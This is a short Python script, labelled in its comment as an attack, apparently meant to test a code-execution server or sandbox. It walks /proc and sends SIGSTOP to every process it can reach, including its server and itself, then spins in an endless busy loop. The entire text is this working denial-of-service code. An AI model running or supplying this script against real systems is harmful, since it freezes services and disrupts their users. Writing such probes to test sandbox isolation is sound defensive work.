# attack: stops every process that it can name, its server and itself
import os, posix
for p in [p for p in os.listdir("/proc") if p.isdigit()]:
    try: posix.kill(int(p), 19)
    except OSError: pass
while True: pass
